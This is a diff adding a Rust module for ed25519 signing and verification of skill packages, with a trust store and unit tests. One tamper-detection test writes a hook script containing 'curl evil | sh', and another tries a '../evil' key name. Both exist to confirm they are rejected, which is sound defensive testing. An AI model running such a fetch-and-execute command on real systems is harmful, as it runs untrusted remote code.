@@ -0,0 +1,616 @@
+//! Ed25519 signing and verification of skill artifacts
+//!
+//! Publishers sign every file that makes up a skill release (the whole
+//! directory tree, including `skill.toml` and scripts) with an ed25519 key.
+//! The result is written at the root of the directory as `skill.sig`:
+//!
+//! ```json
+//! {
+//!   "version": 1,
+//!   "algorithm": "ed25519",
+//!   "public_key": "3b6a27bc...",
+//!   "files": { "SKILL.md": "<blake3>", "scripts/run.sh": "<blake3>", "skill.wasm": "<blake3>" },
+//!   "signature": "<hex>"
+//! }
+//! ```
+//!
+//! Installers verify the signature, reject any file it does not cover, and
+//! look the public key up in the trust store
+//! (`~/.skill-engine/trust/<name>.pub`, one hex key per file).
+
+use anyhow::{Context, Result};
+use ring::rand::SystemRandom;
+use ring::signature::{Ed25519KeyPair, KeyPair, UnparsedPublicKey, ED25519};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use crate::checksum::to_hex;
+use crate::package::{INTEGRITY_FILE, MANIFEST_FRAGMENT_FILE};
+
+/// File name of the detached signature in a skill directory
+pub const SIGNATURE_FILE: &str = "skill.sig";
+
+const SIGNATURE_VERSION: u32 = 1;
+const PAYLOAD_HEADER: &str = "skill-signature-v1\n";
+
+/// An ed25519 public key
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub struct PublicKey([u8; 32]);
+
+impl PublicKey {
+    /// Parse a hex-encoded key
+    pub fn from_hex(hex: &str) -> Result<Self> {
+        let bytes = from_hex(hex.trim()).context("Public key is not valid hex")?;
+        let bytes: [u8; 32] = bytes
+            .try_into()
+            .map_err(|_| anyhow::anyhow!("Public key must be 32 bytes"))?;
+        Ok(Self(bytes))
+    }
+
+    /// Hex encoding of the key
+    pub fn to_hex(&self) -> String {
+        to_hex(&self.0)
+    }
+
+    /// Short identifier for display (first 16 hex chars of the key's BLAKE3 hash)
+    pub fn fingerprint(&self) -> String {
+        blake3::hash(&self.0).to_hex()[..16].to_string()
+    }
+
+    /// Verify a hex-encoded detached signature over `message`
+    pub fn verify_hex(&self, message: &[u8], signature: &str) -> Result<()> {
+        let signature = from_hex(signature.trim()).context("Signature is not valid hex")?;
+        self.verify(message, &signature)
+    }
+
+    fn verify(&self, message: &[u8], signature: &[u8]) -> Result<()> {
+        UnparsedPublicKey::new(&ED25519, self.0)
+            .verify(message, signature)
+            .map_err(|_| {
+                anyhow::anyhow!("Signature does not match public key {}", self.fingerprint())
+            })
+    }
+}
+
+impl fmt::Display for PublicKey {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}", self.to_hex())
+    }
+}
+
+/// An ed25519 private key used by publishers
+pub struct SigningKey {
+    pair: Ed25519KeyPair,
+    pkcs8: Vec<u8>,
+}
+
+impl SigningKey {
+    /// Generate a new random key
+    pub fn generate() -> Result<Self> {
+        let document = Ed25519KeyPair::generate_pkcs8(&SystemRandom::new())
+            .map_err(|_| anyhow::anyhow!("Failed to generate ed25519 key"))?;
+        Self::from_pkcs8(document.as_ref())
+    }
+
+    /// Load a key from PKCS#8 DER bytes
+    pub fn from_pkcs8(pkcs8: &[u8]) -> Result<Self> {
+        let pair = Ed25519KeyPair::from_pkcs8(pkcs8)
+            .map_err(|e| anyhow::anyhow!("Invalid ed25519 private key: {}", e))?;
+        Ok(Self {
+            pair,
+            pkcs8: pkcs8.to_vec(),
+        })
+    }
+
+    /// Load a key file (hex-encoded PKCS#8)
+    pub fn load(path: &Path) -> Result<Self> {
+        let contents = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read signing key: {}", path.display()))?;
+        let pkcs8 = from_hex(contents.trim())
+            .with_context(|| format!("Signing key is not valid hex: {}", path.display()))?;
+        Self::from_pkcs8(&pkcs8)
+    }
+
+    /// Write the key file, readable only by the current user
+    pub fn save(&self, path: &Path) -> Result<()> {
+        use std::io::Write;
+
+        if let Some(parent) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
+            std::fs::create_dir_all(parent)?;
+        }
+
+        let mut options = std::fs::OpenOptions::new();
+        options.write(true).create(true).truncate(true);
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::OpenOptionsExt;
+            options.mode(0o600);
+        }
+        let mut file = options
+            .open(path)
+            .with_context(|| format!("Failed to write signing key: {}", path.display()))?;
+
+        // The mode only applies to new files; tighten an existing one before writing
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            file.set_permissions(std::fs::Permissions::from_mode(0o600))?;
+        }
+        file.write_all((to_hex(&self.pkcs8) + "\n").as_bytes())
+            .with_context(|| format!("Failed to write signing key: {}", path.display()))?;
+        Ok(())
+    }
+
+    /// Public half of the key
+    pub fn public_key(&self) -> PublicKey {
+        let mut bytes = [0u8; 32];
+        bytes.copy_from_slice(self.pair.public_key().as_ref());
+        PublicKey(bytes)
+    }
+
+    /// Hex-encoded detached signature over `message`
+    pub fn sign_hex(&self, message: &[u8]) -> String {
+        to_hex(self.pair.sign(message).as_ref())
+    }
+}
+
+/// Detached signature over a skill's artifacts (`skill.sig`)
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SkillSignature {
+    /// Format version
+    pub version: u32,
+    /// Signature algorithm (always `ed25519`)
+    pub algorithm: String,
+    /// Hex-encoded public key of the publisher
+    pub public_key: String,
+    /// Signed files (relative to the skill directory) and their BLAKE3 digests
+    pub files: BTreeMap<String, String>,
+    /// Hex-encoded signature over the file list
+    pub signature: String,
+}
+
+impl SkillSignature {
+    /// Sign every file in a skill directory
+    pub fn sign_dir(dir: &Path, key: &SigningKey) -> Result<Self> {
+        let files = digest_files(dir)?;
+        if files.is_empty() {
+            anyhow::bail!("Nothing to sign in {}", dir.display());
+        }
+
+        let signature = key.pair.sign(&payload(&files));
+        Ok(Self {
+            version: SIGNATURE_VERSION,
+            algorithm: "ed25519".to_string(),
+            public_key: key.public_key().to_hex(),
+            files,
+            signature: to_hex(signature.as_ref()),
+        })
+    }
+
+    /// Read `skill.sig` from a directory, if present
+    pub fn load(dir: &Path) -> Result<Option<Self>> {
+        let path = dir.join(SIGNATURE_FILE);
+        if !path.exists() {
+            return Ok(None);
+        }
+        let contents = std::fs::read_to_string(&path)
+            .with_context(|| format!("Failed to read {}", path.display()))?;
+        let signature = serde_json::from_str(&contents)
+            .with_context(|| format!("Invalid signature file: {}", path.display()))?;
+        Ok(Some(signature))
+    }
+
+    /// Write `skill.sig` into a directory
+    pub fn save(&self, dir: &Path) -> Result<PathBuf> {
+        let path = dir.join(SIGNATURE_FILE);
+        std::fs::write(&path, serde_json::to_string_pretty(self)? + "\n")
+            .with_context(|| format!("Failed to write {}", path.display()))?;
+        Ok(path)
+    }
+
+    /// Publisher key that produced the signature
+    pub fn signer(&self) -> Result<PublicKey> {
+        PublicKey::from_hex(&self.public_key)
+    }
+
+    /// Whether a file (relative to the skill directory) is covered
+    pub fn covers(&self, file: &str) -> bool {
+        self.files.contains_key(file)
+    }
+
+    /// Check the signature and that the directory's artifacts match it exactly
+    pub fn verify(&self, dir: &Path) -> Result<PublicKey> {
+        if self.version != SIGNATURE_VERSION || self.algorithm != "ed25519" {
+            anyhow::bail!(
+                "Unsupported signature format: version {} ({})",
+                self.version,
+                self.algorithm
+            );
+        }
+
+        let signer = self.signer()?;
+        let signature = from_hex(&self.signature).context("Signature is not valid hex")?;
+        signer.verify(&payload(&self.files), &signature)?;
+
+        let actual = digest_files(dir)?;
+        for (file, digest) in &self.files {
+            match actual.get(file) {
+                Some(actual) if actual == digest => {}
+                Some(_) => anyhow::bail!("{} was modified after signing", file),
+                None => anyhow::bail!("Signed file {} is missing", file),
+            }
+        }
+        if let Some(extra) = actual.keys().find(|file| !self.files.contains_key(*file)) {
+            anyhow::bail!("{} is not covered by the signature", extra);
+        }
+
+        Ok(signer)
+    }
+}
+
+/// A publisher key trusted for installs
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TrustedKey {
+    /// Local name for the key (file stem in the trust directory)
+    pub name: String,
+    /// The public key
+    pub key: PublicKey,
+}
+
+/// Directory of trusted publisher keys (`~/.skill-engine/trust`)
+#[derive(Debug, Clone)]
+pub struct TrustStore {
+    dir: PathBuf,
+}
+
+impl TrustStore {
+    /// Trust store at a specific directory
+    pub fn new(dir: impl Into<PathBuf>) -> Self {
+        Self { dir: dir.into() }
+    }
+
+    /// Trust store at `~/.skill-engine/trust`
+    pub fn open_default() -> Result<Self> {
+        let home = dirs::home_dir().context("Failed to get home directory")?;
+        Ok(Self::new(home.join(".skill-engine").join("trust")))
+    }
+
+    /// Directory holding the keys
+    pub fn dir(&self) -> &Path {
+        &self.dir
+    }
+
+    /// Trust a key under a name
+    pub fn add(&self, name: &str, key: &PublicKey) -> Result<PathBuf> {
+        let valid = !name.is_empty()
+            && name
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
+            && !name.starts_with('.');
+        if !valid {
+            anyhow::bail!(
+                "Invalid key name '{}': use letters, digits, '-', '_' or '.'",
+                name
+            );
+        }
+        if let Some(existing) = self.find(key)? {
+            anyhow::bail!("Key is already trusted as '{}'", existing.name);
+        }
+
+        std::fs::create_dir_all(&self.dir)
+            .with_context(|| format!("Failed to create {}", self.dir.display()))?;
+        let path = self.dir.join(format!("{}.pub", name));
+        if path.exists() {
+            anyhow::bail!("A trusted key named '{}' already exists", name);
+        }
+        std::fs::write(&path, key.to_hex() + "\n")
+            .with_context(|| format!("Failed to write {}", path.display()))?;
+        Ok(path)
+    }
+
+    /// Remove a key by name or fingerprint; returns whether anything was removed
+    pub fn remove(&self, name_or_fingerprint: &str) -> Result<bool> {
+        let key = self.list()?.into_iter().find(|trusted| {
+            trusted.name == name_or_fingerprint || trusted.key.fingerprint() == name_or_fingerprint
+        });
+        match key {
+            Some(trusted) => {
+                std::fs::remove_file(self.dir.join(format!("{}.pub", trusted.name)))?;
+                Ok(true)
+            }
+            None => Ok(false),
+        }
+    }
+
+    /// All trusted keys, sorted by name
+    pub fn list(&self) -> Result<Vec<TrustedKey>> {
+        if !self.dir.exists() {
+            return Ok(Vec::new());
+        }
+
+        let mut keys = Vec::new();
+        for entry in std::fs::read_dir(&self.dir)? {
+            let path = entry?.path();
+            if path.extension().map_or(true, |ext| ext != "pub") {
+                continue;
+            }
+            let Some(name) = path.file_stem().and_then(|s| s.to_str()) else {
+                continue;
+            };
+            let contents = std::fs::read_to_string(&path)?;
+            match PublicKey::from_hex(&contents) {
+                Ok(key) => keys.push(TrustedKey {
+                    name: name.to_string(),
+                    key,
+                }),
+                Err(e) => {
+                    tracing::warn!(path = %path.display(), error = %e, "Ignoring invalid trusted key")
+                }
+            }
+        }
+        keys.sort_by(|a, b| a.name.cmp(&b.name));
+        Ok(keys)
+    }
+
+    /// Look up a key
+    pub fn find(&self, key: &PublicKey) -> Result<Option<TrustedKey>> {
+        Ok(self.list()?.into_iter().find(|trusted| &trusted.key == key))
+    }
+}
+
+/// Outcome of checking a skill directory's signature
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum SignatureStatus {
+    /// No `skill.sig` present
+    Unsigned,
+    /// Valid signature from a trusted key
+    Trusted(TrustedKey),
+    /// Valid signature from a key that is not in the trust store
+    Untrusted(PublicKey),
+}
+
+impl SignatureStatus {
+    /// Fail unless the skill is signed by a trusted key (when required)
+    pub fn enforce(&self, require_signed: bool) -> Result<()> {
+        match self {
+            Self::Trusted(_) => Ok(()),
+            _ if !require_signed => Ok(()),
+            Self::Unsigned => anyhow::bail!("Skill is not signed (--require-signed)"),
+            Self::Untrusted(key) => anyhow::bail!(
+                "Skill is signed by untrusted key {} (--require-signed). Trust it with: skill trust add <name> {}",
+                key.fingerprint(),
+                key
+            ),
+        }
+    }
+}
+
+/// Verify a skill directory against the trust store
+///
+/// A present but invalid signature (tampered files, wrong key) is always an
+/// error; unsigned and untrusted skills are reported for the caller's policy.
+pub fn verify_skill_dir(dir: &Path, trust: &TrustStore) -> Result<SignatureStatus> {
+    let Some(signature) = SkillSignature::load(dir)? else {
+        return Ok(SignatureStatus::Unsigned);
+    };
+
+    let signer = signature
+        .verify(dir)
+        .with_context(|| format!("Signature verification failed for {}", dir.display()))?;
+
+    Ok(match trust.find(&signer)? {
+        Some(trusted) => SignatureStatus::Trusted(trusted),
+        None => SignatureStatus::Untrusted(signer),
+    })
+}
+
+/// BLAKE3 digests of every file under a directory, keyed by `/`-separated
+/// relative path
+///
+/// Left out are `skill.sig` itself, `.git` directories, and the metadata
+/// `skill pack` adds after signing (`integrity.json`, `manifest.toml`).
+/// Symlinks are rejected, since their targets could change without touching
+/// the tree.
+fn digest_files(dir: &Path) -> Result<BTreeMap<String, String>> {
+    let mut files = BTreeMap::new();
+    collect_digests(dir, "", &mut files)?;
+    for unsigned in [SIGNATURE_FILE, INTEGRITY_FILE, MANIFEST_FRAGMENT_FILE] {
+        files.remove(unsigned);
+    }
+    Ok(files)
+}
+
+fn collect_digests(dir: &Path, prefix: &str, files: &mut BTreeMap<String, String>) -> Result<()> {
+    for entry in
+        std::fs::read_dir(dir).with_context(|| format!("Failed to read {}", dir.display()))?
+    {
+        let entry = entry?;
+        let path = entry.path();
+        let name = entry.file_name();
+        let name = name
+            .to_str()
+            .with_context(|| format!("File name is not valid UTF-8: {}", path.display()))?;
+        let relative = format!("{}{}", prefix, name);
+
+        let file_type = entry.file_type()?;
+        if file_type.is_symlink() {
+            anyhow::bail!("Cannot sign symlink {}", relative);
+        } else if file_type.is_dir() {
+            if name != ".git" {
+                collect_digests(&path, &format!("{}/", relative), files)?;
+            }
+        } else if file_type.is_file() {
+            let bytes = std::fs::read(&path)
+                .with_context(|| format!("Failed to read {}", path.display()))?;
+            files.insert(relative, blake3::hash(&bytes).to_hex().to_string());
+        }
+    }
+    Ok(())
+}
+
+/// Canonical bytes covered by the signature
+fn payload(files: &BTreeMap<String, String>) -> Vec<u8> {
+    let mut payload = PAYLOAD_HEADER.to_string();
+    for (file, digest) in files {
+        payload.push_str(&format!("{}  {}\n", digest, file));
+    }
+    payload.into_bytes()
+}
+
+fn from_hex(hex: &str) -> Result<Vec<u8>> {
+    if hex.len() % 2 != 0 || !hex.is_ascii() {
+        anyhow::bail!("Invalid hex length");
+    }
+    (0..hex.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).map_err(Into::into))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn skill_dir() -> TempDir {
+        let dir = TempDir::new().unwrap();
+        std::fs::write(dir.path().join("skill.wasm"), b"\0asm fake").unwrap();
+        std::fs::write(dir.path().join("SKILL.md"), "---\nname: demo\n---\n").unwrap();
+        std::fs::write(dir.path().join("skill.toml"), "[skill]\nname = \"demo\"\n").unwrap();
+        std::fs::create_dir_all(dir.path().join("scripts")).unwrap();
+        std::fs::write(dir.path().join("scripts/run.sh"), "echo hi\n").unwrap();
+        dir
+    }
+
+    #[test]
+    fn test_sign_and_verify() {
+        let dir = skill_dir();
+        let key = SigningKey::generate().unwrap();
+
+        let signature = SkillSignature::sign_dir(dir.path(), &key).unwrap();
+        assert!(signature.covers("skill.wasm"));
+        assert!(signature.covers("SKILL.md"));
+        assert!(signature.covers("skill.toml"));
+        assert!(signature.covers("scripts/run.sh"));
+        signature.save(dir.path()).unwrap();
+
+        let loaded = SkillSignature::load(dir.path()).unwrap().unwrap();
+        assert_eq!(loaded.verify(dir.path()).unwrap(), key.public_key());
+    }
+
+    #[test]
+    fn test_tampering_is_detected() {
+        let dir = skill_dir();
+        let key = SigningKey::generate().unwrap();
+        let signature = SkillSignature::sign_dir(dir.path(), &key).unwrap();
+
+        // Modified artifact
+        std::fs::write(dir.path().join("skill.wasm"), b"\0asm evil").unwrap();
+        assert!(signature.verify(dir.path()).is_err());
+
+        // Unsigned extra artifact
+        let dir = skill_dir();
+        let signature = SkillSignature::sign_dir(dir.path(), &key).unwrap();
+        std::fs::write(dir.path().join("other.wasm"), b"\0asm").unwrap();
+        assert!(signature.verify(dir.path()).is_err());
+
+        // Modified config, and a file added to a subdirectory
+        let dir = skill_dir();
+        let signature = SkillSignature::sign_dir(dir.path(), &key).unwrap();
+        std::fs::write(dir.path().join("skill.toml"), "[skill]\nname = \"evil\"\n").unwrap();
+        assert!(signature.verify(dir.path()).is_err());
+        let dir = skill_dir();
+        let signature = SkillSignature::sign_dir(dir.path(), &key).unwrap();
+        std::fs::write(dir.path().join("scripts/hook.sh"), "curl evil | sh\n").unwrap();
+        let err = signature.verify(dir.path()).unwrap_err();
+        assert!(err.to_string().contains("scripts/hook.sh"), "{}", err);
+
+        // Forged file list
+        let dir = skill_dir();
+        let mut signature = SkillSignature::sign_dir(dir.path(), &key).unwrap();
+        signature.files.remove("SKILL.md");
+        std::fs::remove_file(dir.path().join("SKILL.md")).unwrap();
+        assert!(signature.verify(dir.path()).is_err());
+
+        // Key swapped for another publisher's
+        let dir = skill_dir();
+        let mut signature = SkillSignature::sign_dir(dir.path(), &key).unwrap();
+        signature.public_key = SigningKey::generate().unwrap().public_key().to_hex();
+        assert!(signature.verify(dir.path()).is_err());
+    }
+
+    #[test]
+    fn test_trust_store_and_policy() {
+        let trust_dir = TempDir::new().unwrap();
+        let trust = TrustStore::new(trust_dir.path());
+        let key = SigningKey::generate().unwrap();
+
+        let dir = skill_dir();
+        let status = verify_skill_dir(dir.path(), &trust).unwrap();
+        assert_eq!(status, SignatureStatus::Unsigned);
+        assert!(status.enforce(false).is_ok());
+        assert!(status.enforce(true).is_err());
+
+        SkillSignature::sign_dir(dir.path(), &key)
+            .unwrap()
+            .save(dir.path())
+            .unwrap();
+        let status = verify_skill_dir(dir.path(), &trust).unwrap();
+        assert_eq!(status, SignatureStatus::Untrusted(key.public_key()));
+        assert!(status.enforce(true).is_err());
+
+        trust.add("acme", &key.public_key()).unwrap();
+        assert!(trust.add("acme-again", &key.public_key()).is_err());
+        assert!(trust.add("../evil", &key.public_key()).is_err());
+        let status = verify_skill_dir(dir.path(), &trust).unwrap();
+        assert!(matches!(&status, SignatureStatus::Trusted(k) if k.name == "acme"));
+        assert!(status.enforce(true).is_ok());
+
+        assert!(trust.remove(&key.public_key().fingerprint()).unwrap());
+        assert!(trust.list().unwrap().is_empty());
+        assert!(!trust.remove("acme").unwrap());
+    }
+
+    #[test]
+    fn test_key_round_trip() {
+        let dir = TempDir::new().unwrap();
+        let path = dir.path().join("publisher.key");
+        let key = SigningKey::generate().unwrap();
+        key.save(&path).unwrap();
+
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            let mode = std::fs::metadata(&path).unwrap().permissions().mode();
+            assert_eq!(mode & 0o777, 0o600);
+        }
+
+        let loaded = SigningKey::load(&path).unwrap();
+        assert_eq!(loaded.public_key(), key.public_key());
+        assert_eq!(
+            PublicKey::from_hex(&key.public_key().to_hex()).unwrap(),
+            key.public_key()
+        );
+        assert!(PublicKey::from_hex("abcd").is_err());
+    }
+
+    #[test]
+    fn test_detached_signature() {
+        let key = SigningKey::generate().unwrap();
+        let signature = key.sign_hex(b"release tarball");
+
+        key.public_key()
+            .verify_hex(b"release tarball", &signature)
+            .unwrap();
+        assert!(key
+            .public_key()
+            .verify_hex(b"tampered tarball", &signature)
+            .is_err());
+        assert!(key
+            .public_key()
+            .verify_hex(b"release tarball", "zz")
+            .is_err());
+    }
+}